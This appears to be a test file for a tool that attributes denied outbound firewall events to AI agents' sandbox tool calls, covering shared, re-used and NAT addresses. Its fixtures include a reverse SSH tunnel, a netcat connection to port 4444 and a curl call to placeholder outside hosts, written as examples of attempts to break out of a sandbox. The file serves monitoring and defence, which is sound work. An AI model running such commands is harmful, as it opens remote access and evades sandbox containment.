"""Identity as a many-to-many relation over time (issue 12): shared, re-used and NAT addresses."""

from __future__ import annotations

import numpy as np
import pyarrow as pa

from correlate.identity import build_identity, holders, resolve
from correlate.pipeline import InputFile, Loaded, RunOptions, analyse
from correlate.same_calls import merge_same_calls
from correlate.schema import HOSTS, NETWORK_EVENTS, TOOL_CALLS, from_columns, plain_rows

NS = 1_000_000_000
T0 = 1_764_655_200 * NS
MINUTE = 60 * NS


def hosts(*rows: dict[str, object]) -> pa.Table:
    return from_columns({k: [r.get(k) for r in rows] for k in HOSTS.names}, HOSTS)


def seen(host: str, ip: str, at: int, **extra: object) -> dict[str, object]:
    return {"host": host, "ip": ip, "valid_from": at, "origin": "trajectory", **extra}


def call(call_id: str, host: str | None, start: int, command: str = "ls", **extra: object):
    return {
        "call_id": call_id,
        "run_id": "r",
        "episode_id": f"ep-{host}",
        "step": 1,
        "ts_start": start,
        "ts_end": start + 2 * NS,
        "ts_kind": "exact",
        "tool": "bash",
        "command": command,
        "host": host,
        "source_format": "t",
        "source_path": "calls.jsonl",
        "source_line": 1,
        **extra,
    }


def calls_table(*rows: dict[str, object]) -> pa.Table:
    table = from_columns({k: [r.get(k) for r in rows] for k in TOOL_CALLS.names}, TOOL_CALLS)
    lines = pa.array(range(1, table.num_rows + 1), pa.int64())
    table = table.set_column(table.schema.get_field_index("source_line"), "source_line", lines)
    return table.sort_by([("ts_start", "ascending"), ("source_line", "ascending")])


def event(ts: int, src: str, dst: str, port: int, nat: str | None = None) -> dict[str, object]:
    return {
        "ts": ts,
        "src_ip": src,
        "src_nat_ip": nat,
        "dst_ip": dst,
        "dst_port": port,
        "protocol": "tcp",
        "direction": "outbound",
        "action": "denied",
        "source_format": "fw",
        "source_path": "fw.jsonl",
    }


def loaded(events: list[dict[str, object]], calls: pa.Table, identity: pa.Table) -> Loaded:
    table = from_columns(
        {k: [e.get(k) for e in events] for k in NETWORK_EVENTS.names}, NETWORK_EVENTS
    )
    table = table.set_column(0, "event_id", pa.array(range(1, len(events) + 1), pa.int64()))
    lines = pa.array(range(1, len(events) + 1), pa.int64())
    table = table.set_column(table.schema.get_field_index("source_line"), "source_line", lines)
    return Loaded(
        events=table,
        calls=calls,
        hosts=identity,
        inputs=[InputFile(path="x", format="x", kind=None, sha256="", size=0)],
        rejects=[],
    )


def at(identity: pa.Table, ip: str, t: int) -> tuple[str, ...]:
    return holders(identity, [ip], np.array([t], dtype=np.int64))[0]


def test_overlapping_activity_on_one_address_is_sharing_not_succession() -> None:
    ip = "10.0.1.11"
    rows = [seen(f"sbx-{n}", ip, T0 + n * NS) for n in range(4)]
    calls = calls_table(*(call(f"c{n}", f"sbx-{n}", T0 + 5 * MINUTE) for n in range(4)))
    identity = build_identity([hosts(*rows)], calls, grace_ns=10 * MINUTE)
    during = T0 + 5 * MINUTE
    assert at(identity, ip, during) == ("sbx-0", "sbx-1", "sbx-2", "sbx-3")
    assert resolve(identity, [ip], np.array([during]))[1] == ["shared"]
    # the leases end a grace after each host's last call, not when the next host appears
    assert at(identity, ip, during + 2 * NS + 9 * MINUTE) == ("sbx-0", "sbx-1", "sbx-2", "sbx-3")
    assert at(identity, ip, during + 2 * NS + 11 * MINUTE) == ()
    notes = identity.column("note").to_pylist()
    assert all("shared with other hosts" in n for n in notes)


def test_re_use_without_overlap_stays_exclusive_and_follows_the_new_holder() -> None:
    ip = "10.0.1.20"
    rows = [seen("a", ip, T0), seen("b", ip, T0 + 60 * MINUTE)]
    calls = calls_table(call("a1", "a", T0 + MINUTE), call("b1", "b", T0 + 61 * MINUTE))
    identity = build_identity([hosts(*rows)], calls)
    assert at(identity, ip, T0 - 5 * MINUTE) == ("a",)  # first holder: open to the past
    assert at(identity, ip, T0 + 30 * MINUTE) == ("a",)
    assert at(identity, ip, T0 + 61 * MINUTE) == ("b",)
    assert at(identity, ip, T0 + 600 * MINUTE) == ("b",)  # last holder: open


def test_an_only_holder_is_open_both_ways() -> None:
    identity = build_identity([hosts(seen("a", "10.0.0.1", T0))], calls_table(call("c", "a", T0)))
    assert at(identity, "10.0.0.1", T0 - 600 * MINUTE) == ("a",)
    assert at(identity, "10.0.0.1", T0 + 6000 * MINUTE) == ("a",)


def shared_incident(named: bool) -> Loaded:
    ip, dst = "10.0.1.11", "203.0.113.45"
    rows = [
        {"host": f"sbx-{n}", "ip": ip, "kind": "docker_host", "origin": "inventory"}
        for n in range(4)
    ]
    tunnel = f"ssh -fNR 2222:localhost:22 relay@{dst}" if named else "bash setup.sh"
    calls = calls_table(
        call("c0", "sbx-0", T0, tunnel),
        call("c1", "sbx-1", T0, "python -m pytest -q"),
        call("c2", "sbx-2", T0 + NS // 2, "cat README.md"),
        call("c9", "elsewhere", T0, f"curl http://{dst}/"),  # names it, but not on the address
    )
    return loaded([event(T0 + NS, ip, dst, 22)], calls, hosts(*rows))


def test_every_host_on_a_shared_address_is_a_candidate_and_the_named_call_wins() -> None:
    result = analyse(shared_incident(named=True), RunOptions())
    finding = plain_rows(result.findings)[0]
    assert finding["identity"] == "shared" and finding["address_holders"] == 4
    assert finding["src_hosts"] == "sbx-0, sbx-1, sbx-2, sbx-3"
    assert finding["call_id"] == "c0" and finding["confidence"] == "high"
    assert "shared by 4 hosts at that moment" in finding["reasons"]
    assert "(docker_host)" in finding["reasons"]
    candidates = plain_rows(result.candidates)
    assert {c["call_id"] for c in candidates} == {"c0", "c1", "c2"}
    assert {c["identity"] for c in candidates} == {"shared"}
    assert finding["other_hosts_calls"] == 1  # c9: not on the address


def test_candidates_a_shared_address_cannot_tell_apart_are_reported_ambiguous() -> None:
    result = analyse(shared_incident(named=False), RunOptions())
    finding = plain_rows(result.findings)[0]
    assert finding["call_id"] is None and finding["confidence"] == "low"
    assert finding["tied_calls"] is not None
    assert {"c0", "c1", "c2"} <= {part.split(" ")[0] for part in finding["tied_calls"].split(", ")}
    assert "ambiguous: 3 calls in 3 sandboxes" in finding["reasons"]
    (row,) = plain_rows(result.attributions)
    assert row["how"] == "ambiguous" and row["call_id"] is None and row["lag_s"] is None


def test_a_nat_address_makes_every_host_behind_it_a_candidate() -> None:
    eip, dst = "47.96.0.1", "198.51.100.9"
    rows = [{"host": f"sbx-{n}", "ip": eip, "kind": "nat", "origin": "inventory"} for n in range(3)]
    calls = calls_table(
        call("c0", "sbx-0", T0, f"nc {dst} 4444"),
        call("c1", "sbx-1", T0, "ls"),
        call("c2", "sbx-2", T0, "ls"),
    )
    # the firewall gives a private source no host is known by, and the EIP it was translated to
    data = loaded([event(T0 + NS, "172.16.9.9", dst, 4444, nat=eip)], calls, hosts(*rows))
    finding = plain_rows(analyse(data, RunOptions()).findings)[0]
    assert finding["identity"] == "shared" and finding["address_holders"] == 3
    assert finding["call_id"] == "c0"
    assert (
        f"source 172.16.9.9 is in no host's lease; its NAT address {eip} (nat) shared by 3"
        in (finding["reasons"])
    )


def test_calls_known_only_by_a_shared_address_are_candidates_through_it() -> None:
    ip, dst = "10.0.1.11", "203.0.113.45"
    rows = [{"host": f"sbx-{n}", "ip": ip, "origin": "inventory"} for n in range(2)]
    calls = calls_table(call("c0", None, T0, f"ssh -R 1:localhost:22 u@{dst}", host_ip=ip))
    result = analyse(loaded([event(T0 + NS, ip, dst, 22)], calls, hosts(*rows)), RunOptions())
    assert plain_rows(result.findings)[0]["call_id"] == "c0"


def test_the_same_call_in_two_agent_logs_is_one_row_with_the_precise_times() -> None:
    vague = call("c1", "sbx", T0 - MINUTE, "ls", ts_kind="inferred", train_step=57)
    vague.update(ts_end=T0 + 10 * MINUTE, source_format="roll_dump", source_path="dump.jsonl")
    precise = call("c1", "sbx", T0, "ls", episode_id=None, source_format="rock_llmservice")
    precise["source_path"] = "LLMService.log"
    other = call("c2", "sbx", T0 + MINUTE)
    merged, count = merge_same_calls(calls_table(vague, precise, other))
    assert count == 1
    rows = {r["call_id"]: r for r in plain_rows(merged)}
    assert len(rows) == 2 and merged.num_rows == 2
    kept = rows["c1"]
    assert kept["source_format"] == "rock_llmservice" and kept["ts_start"] == T0
    assert kept["train_step"] == 57 and kept["episode_id"] == "ep-sbx"  # filled from the copy
    assert "dump.jsonl:" in kept["ts_note"] and "(roll_dump): merged" in kept["ts_note"]
    unchanged = calls_table(precise, other)
    assert merge_same_calls(unchanged) == (unchanged, 0)


def test_a_sighting_later_than_the_hosts_calls_does_not_narrow_its_lease() -> None:
    """ROLL lines read in the wrong zone put every sandbox's identity line hours after its
    calls; the calls' own times still say when the sandbox held its address."""
    ip, dst = "10.0.1.11", "203.0.113.45"
    late = T0 + 8 * 3600 * NS
    rows = [seen(f"sbx-{n}", ip, late + n * NS) for n in range(3)]
    calls = calls_table(
        call("c0", "sbx-0", T0, "python -m pytest -q"),
        call("c1", "sbx-1", T0, f"ssh -fNR 2222:localhost:22 relay@{dst}"),
        call("c2", "sbx-2", T0 + NS // 2, "ls"),
    )
    result = analyse(loaded([event(T0 + NS, ip, dst, 22)], calls, hosts(*rows)), RunOptions())
    finding = plain_rows(result.findings)[0]
    assert finding["identity"] == "shared" and finding["address_holders"] == 3
    assert finding["call_id"] == "c1" and finding["confidence"] == "high"
    notes = result.identity.column("note").to_pylist()
    assert any("before this address was seen: lease from its first call" in n for n in notes)
